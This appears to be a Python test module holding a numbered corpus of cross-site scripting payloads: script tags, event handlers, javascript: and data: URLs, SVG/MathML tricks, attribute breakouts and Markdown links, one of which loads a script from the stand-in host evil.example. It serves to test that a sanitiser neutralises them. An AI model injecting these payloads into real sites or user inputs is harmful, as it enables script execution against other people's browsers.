"""An XSS corpus: markup that would run script or inject elements if it reached a page raw.

Every vector names itself with its number `N`: if one ever executes, it sets `window.__xss`
to N or opens a dialog; if one is ever injected as markup, the element carries
`data-xss="N"` or `id="xss-N"`. Each fits in 100 characters, so it also fits a search query,
a title and a username.
"""

TEMPLATES = [
    # Script elements
    "<script>window.__xss=N</script>",
    "<script>alert(N)</script>",
    "<SCRIPT SRC=//evil.example/N.js data-xss=N></SCRIPT>",
    "<script type=module>window.__xss=N</script>",
    "<template><script>window.__xss=N</script></template>",
    # Event handlers
    "<img src=x onerror=window.__xss=N data-xss=N id=xss-N>",
    "<img src=x onerror=alert(N) data-xss=N>",
    "<svg onload=window.__xss=N data-xss=N>",
    "<body onload=alert(N) data-xss=N>",
    "<input autofocus onfocus=window.__xss=N data-xss=N>",
    "<details open ontoggle=window.__xss=N data-xss=N>",
    "<video><source onerror=window.__xss=N data-xss=N></video>",
    "<audio src=x onerror=alert(N) data-xss=N>",
    "<marquee onstart=window.__xss=N data-xss=N>m</marquee>",
    "<x-y onclick=window.__xss=N data-xss=N>custom</x-y>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(N) data-xss=N>",
    "<img src=x:alert(alt) onerror=eval(src) alt=N data-xss=N>",
    "<div onmouseover=window.__xss=N data-xss=N>hover</div>",
    # javascript: and data: URLs
    "<a href=javascript:window.__xss=N data-xss=N>js link N</a>",
    '<a href="JaVaScRiPt:alert(N)">mixed case N</a>',
    '<a href="&#106;avascript:alert(N)">entity N</a>',
    '<a href="java&#x09;script:alert(N)">tab N</a>',
    '<a href=" javascript:alert(N)">space N</a>',
    '<a href="data:text/html,<script>alert(N)</script>">data N</a>',
    '<a href="vbscript:msgbox(N)">vbscript N</a>',
    "[md link N](javascript:window.__xss=N)",
    "![md image N](javascript:alert(N))",
    "[md data N](data:text/html,%3Cscript%3Ealert(N)%3C/script%3E)",
    "<javascript:alert(N)>",
    "[ref N][rN]\n\n[rN]: javascript:alert(N)",
    "<iframe src=javascript:alert(N) data-xss=N></iframe>",
    '<iframe srcdoc="<script>alert(N)</script>" data-xss=N></iframe>',
    '<object data="data:text/html,<script>alert(N)</script>" data-xss=N></object>',
    "<embed src=javascript:alert(N) data-xss=N>",
    "<form action=javascript:alert(N) data-xss=N><button>go N</button></form>",
    "<button formaction=javascript:alert(N) data-xss=N>b N</button>",
    '<meta http-equiv=refresh content="0;url=javascript:alert(N)" data-xss=N>',
    "<base href=javascript:alert(N)// data-xss=N>",
    "<IMG SRC=`javascript:alert(N)` data-xss=N>",
    # SVG and MathML
    "<svg><script>window.__xss=N</script></svg>",
    "<svg><animate onbegin=window.__xss=N attributeName=x dur=1s data-xss=N>",
    "<svg><a xlink:href=javascript:alert(N)><text y=9>svg N</text></a></svg>",
    "<svg><foreignObject><img src=x onerror=alert(N) data-xss=N></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(N) data-xss=N>",
    # Breaking out of attributes, elements and comments
    '"><script>window.__xss=N</script>',
    "'><img src=x onerror=window.__xss=N data-xss=N>",
    '" onmouseover="window.__xss=N" data-xss="N',
    "' autofocus onfocus='window.__xss=N' data-xss='N",
    "</textarea><script>alert(N)</script>",
    "</title><script>alert(N)</script>",
    "</script><script>alert(N)</script>",
    "</style><img src=x onerror=alert(N) data-xss=N>",
    '<!--<img src="--><img src=x onerror=alert(N) data-xss=N>-->',
    '<noscript><p title="</noscript><img src=x onerror=alert(N) data-xss=N>">',
    "<![CDATA[<script>alert(N)</script>]]>",
    # Broken markup
    "<<script>alert(N);//<</script>",
    "<scr<script>ipt>alert(N)</scr</script>ipt>",
    '<img """><script>alert(N)</script>">',
    "<img src=x onerror=window.__xss=N data-xss=N",
    "<style>@import 'javascript:alert(N)';</style><b data-xss=N>s</b>",
    '<div style="background:url(javascript:alert(N))" data-xss=N>styled</div>',
    # Markdown-specific: code references, headings, templates
    "[[403|<img src=x onerror=alert(N) data-xss=N>]]",
    "## Heading N <img src=x onerror=alert(N) data-xss=N>",
    "{{ N|safe }} {% debug %} ${N} #{N}",
]


def vectors() -> list[str]:
    """The corpus, each template numbered by its position (1, 2, 3 …)."""
    return [template.replace("N", str(n)) for n, template in enumerate(TEMPLATES, start=1)]


VECTORS = vectors()

# Raw HTML that opens foreign content and a raw-text element: a sanitiser, like a browser,
# drops everything after it. Safe, but the rest of that Markdown field is lost, so these go
# after the end-of-field sentence that the tests look for.
SWALLOWING = [vector for vector in VECTORS if vector.startswith("<math>")]
